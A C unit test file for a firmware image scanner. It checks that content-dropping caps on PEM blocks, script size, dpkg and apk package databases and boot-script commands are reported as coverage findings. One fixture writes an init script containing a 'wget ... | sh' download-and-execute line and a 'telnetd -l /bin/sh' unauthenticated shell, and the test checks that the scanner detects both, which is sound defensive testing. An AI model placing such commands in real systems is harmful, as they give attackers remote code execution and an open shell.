/*
 * test_caps.c - an internal cap that drops content is reported (issue 23
 * step 2): pst_sink_cap_hit records limit.cap naming the cap, marks the
 * container incomplete and counts in coverage, so the verdict cannot pass;
 * nothing is recorded while no cap is hit. The capability matcher keeps
 * PST_CAP_CAP_MATCHES fired rules per program: a program that fires more
 * (user rules made here) gets limit.cap; one that fires few does not.
 * The analyzers' caps that drop content (a representative set: PEM blocks
 * per file, script bytes, dpkg and apk packages per database, commands on
 * one boot-script line) fire on a file made one past the cap, and stay
 * silent on the same file within it.
 */
#include "helpers.h"

/* A scan with a bare root node and a sink opening it, as the walker has
 * when an unpacker runs. */
static struct pst_scan *fake_scan(struct pst_sink *k)
{
	struct pst_scan *s = pst_scan_new(NULL);
	struct pst_node *n;
	assert_non_null(s);
	n = pst_arena_alloc(s->arena, sizeof(*n));
	assert_non_null(n);
	n->seg = n->location = "img.bin";
	n->path = "/";
	s->root = n;
	pst_sink_init(k, s, n, NULL, pst_view_make(NULL, 0), 0);
	return s;
}

static void test_cap_hit_reported(void **state)
{
	struct pst_sink k;
	struct pst_scan *s = fake_scan(&k);
	struct pst_node *n = s->root;
	(void)state;
	pst_sink_cap_hit(&k, "PST_CAP_SQFS_OLD_TABLE", "inode table larger than %u MiB",
			 PST_CAP_SQFS_OLD_TABLE >> 20);
	assert_int_equal(s->nfindings, 1);
	assert_string_equal(s->findings[0].rule, "limit.cap");
	assert_string_equal(s->findings[0].category, "coverage");
	assert_non_null(strstr(s->findings[0].message, "PST_CAP_SQFS_OLD_TABLE"));
	assert_non_null(strstr(s->findings[0].message, "inode table larger than 64 MiB"));
	assert_true(n->flags & PST_NODE_INCOMPLETE);
	assert_int_equal(s->cov.incomplete, 1);
	assert_int_equal(s->cov.limits_hit, 1);
	assert_true(pst_coverage_gap(&s->cov, s->findings, s->nfindings));
	pst_scan_free(s);
}

static void test_no_hit_no_record(void **state)
{
	struct pst_sink k;
	struct pst_scan *s = fake_scan(&k);
	struct pst_node *n = s->root;
	(void)state;
	assert_int_equal(s->nfindings, 0);
	assert_false(n->flags & PST_NODE_INCOMPLETE);
	assert_false(pst_coverage_gap(&s->cov, s->findings, s->nfindings));
	pst_scan_free(s);
}

static void test_capability_matches_cap(void **state)
{
	char *d = th_tmpdir(), rules[4200], target[4200];
	const char *dirs[2] = { rules, NULL };
	const struct pst_finding *f;
	struct pst_options o;
	struct pst_scan *s;
	(void)state;
	/* 70 rules that all fire on the marker, reported or not */
	th_sh("mkdir -p %s/r/capabilities %s/t && for i in $(seq 1 70); do printf '%%s\\n' "
	      "\"- id: capability.many-$i\" '  report: false' '  all:' "
	      "'    - string:POSTERN-MANY-MARKER'; done > %s/r/capabilities/many.yaml && "
	      "printf '%%s\\n' '#include <stdio.h>' "
	      "'int main(void) { puts(\"POSTERN-MANY-MARKER\"); return 0; }' > %s/m.c && "
	      "gcc -O2 -o %s/t/m %s/m.c && "
	      "printf 'int main(void){return 0;}' > %s/n.c && gcc -O2 -o %s/t/n %s/n.c",
	      d, d, d, d, d, d, d, d, d);
	snprintf(rules, sizeof(rules), "%s/r", d);
	snprintf(target, sizeof(target), "%s/t", d);
	pst_options_default(&o);
	o.rule_dirs = dirs;
	o.no_rules_pack = true;
	s = th_scan_opts(target, &o);
	f = th_finding(s, "limit.cap", "/m");
	assert_non_null(f);
	assert_non_null(strstr(f->message, "PST_CAP_CAP_MATCHES"));
	assert_null(th_finding(s, "limit.cap", "/n"));
	assert_true(pst_scan_coverage(s)->limits_hit >= 1);
	pst_scan_free(s);
	th_rmtree(d);
}

/* Scans the directory d/t (made by the caller) and returns the scan. */
static struct pst_scan *scan_tree(const char *d)
{
	char target[4200];
	snprintf(target, sizeof(target), "%s/t", d);
	return th_scan(target, 2);
}

/* A cap hit on the file ending in where, naming cap; none on quiet. */
static void assert_cap(const struct pst_scan *s, const char *where, const char *cap,
		       const char *quiet)
{
	const struct pst_finding *f = th_finding(s, "limit.cap", where);
	assert_non_null(f);
	assert_non_null(strstr(f->message, cap));
	assert_string_equal(f->category, "coverage");
	assert_null(th_finding(s, "limit.cap", quiet));
	assert_true(pst_scan_coverage(s)->limits_hit >= 1);
}

static void test_pem_blocks_cap(void **state)
{
	char *d = th_tmpdir();
	struct pst_scan *s;
	(void)state;
	/* 1000 empty blocks, then a key the cap leaves unexamined; and 3 */
	th_sh("mkdir -p %s/t && cd %s/t && for i in $(seq 1 %u); do "
	      "printf -- '-----BEGIN X509 CRL-----\\n-----END X509 CRL-----\\n'; "
	      "done > many.pem && printf -- '-----BEGIN RSA PRIVATE KEY-----\\nAAAA\\n"
	      "-----END RSA PRIVATE KEY-----\\n'"
	      " >> many.pem && head -6 many.pem > few.pem",
	      d, d, PST_CAP_KEYS_PEM_BLOCKS);
	s = scan_tree(d);
	assert_cap(s, "/many.pem", "PST_CAP_KEYS_PEM_BLOCKS", "/few.pem");
	pst_scan_free(s);
	th_rmtree(d);
}

static void test_script_bytes_cap(void **state)
{
	char *d = th_tmpdir();
	struct pst_scan *s;
	(void)state;
	/* a shell script one line past the cap, and one of 5 MiB (a generated
	 * source the size of Debian's xxl.py, past the 4 MiB cap of before) */
	th_sh("mkdir -p %s/t && cd %s/t && { echo '#!/bin/sh'; yes 'echo postern-filler-line' | "
	      "head -c %u; echo; } > big.sh && { echo '#!/bin/sh'; yes 'echo hi' | "
	      "head -c 5242880; echo; } > mid.sh && chmod +x big.sh mid.sh",
	      d, d, PST_CAP_SCRIPT_BYTES);
	s = scan_tree(d);
	assert_cap(s, "/big.sh", "PST_CAP_SCRIPT_BYTES", "/mid.sh");
	pst_scan_free(s);
	th_rmtree(d);
}

static void test_package_db_caps(void **state)
{
	char *d = th_tmpdir(), over[4200], within[4200];
	struct pst_scan *s;
	(void)state;
	/* one package past each cap in a dpkg status file and an apk database
	 * of one tree (t); the same files cut to two packages in another (u) */
	th_sh("mkdir -p %s/t/var/lib/dpkg %s/t/lib/apk/db %s/u/var/lib/dpkg %s/u/lib/apk/db && "
	      "cd %s && seq 1 %u | awk '{ printf \"Package: p%%d\\nStatus: install ok installed\\n"
	      "Version: 1.%%d\\nArchitecture: all\\n\\n\", $1, $1 }' > t/var/lib/dpkg/status && "
	      "seq 1 %u | awk '{ printf \"P:q%%d\\nV:1.%%d\\nA:x86_64\\n\\n\", $1, $1 }' "
	      "> t/lib/apk/db/installed && head -10 t/var/lib/dpkg/status > u/var/lib/dpkg/status "
	      "&& head -8 t/lib/apk/db/installed > u/lib/apk/db/installed",
	      d, d, d, d, d, PST_CAP_DPKG_PACKAGES + 1, PST_CAP_APK_PACKAGES + 1);
	snprintf(over, sizeof(over), "%s/t", d);
	snprintf(within, sizeof(within), "%s/u", d);
	s = th_scan(over, 2);
	assert_cap(s, "/var/lib/dpkg/status", "PST_CAP_DPKG_PACKAGES", "/nothing");
	assert_cap(s, "/lib/apk/db/installed", "PST_CAP_APK_PACKAGES", "/nothing");
	pst_scan_free(s);
	s = th_scan(within, 2);
	assert_null(th_finding(s, "limit.cap", NULL));
	assert_non_null(th_node(s, "/var/lib/dpkg/status"));
	pst_scan_free(s);
	th_rmtree(d);
}

/* A boot script line of more commands than one batch (PST_CAP_SVC_CMDS)
 * is examined whole: the shell after the cap is found, and a download piped
 * across the batch boundary into sh too; no limit.cap, nothing dropped. */
static void test_boot_line_commands_batched(void **state)
{
	char *d = th_tmpdir(), t[4200];
	struct pst_scan *s;
	const struct pst_finding *f;
	(void)state;
	th_sh("mkdir -p %s/t/etc/init.d && cd %s/t && "
	      "{ echo '#!/bin/sh'; { seq 1 %u | sed 's/.*/echo &/'; "
	      "echo 'wget -O- http://198.51.100.7/x | sh'; seq 1 %u | sed 's/.*/true &/'; "
	      "echo 'telnetd -l /bin/sh'; } | paste -sd ';' -; } > etc/init.d/rcS && "
	      "chmod +x etc/init.d/rcS",
	      d, d, PST_CAP_SVC_CMDS - 1, PST_CAP_SVC_CMDS + 5);
	snprintf(t, sizeof(t), "%s/t", d);
	s = th_scan(t, 2);
	assert_null(th_finding(s, "limit.cap", NULL));
	f = th_finding(s, "service.unauthenticated-shell", "/etc/init.d/rcS");
	assert_non_null(f);
	assert_non_null(strstr(f->message, "/bin/sh"));
	assert_non_null(th_finding(s, "service.download-exec", "/etc/init.d/rcS"));
	pst_scan_free(s);
	th_rmtree(d);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cap_hit_reported),
		cmocka_unit_test(test_no_hit_no_record),
		cmocka_unit_test(test_capability_matches_cap),
		cmocka_unit_test(test_pem_blocks_cap),
		cmocka_unit_test(test_script_bytes_cap),
		cmocka_unit_test(test_package_db_caps),
		cmocka_unit_test(test_boot_line_commands_batched),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
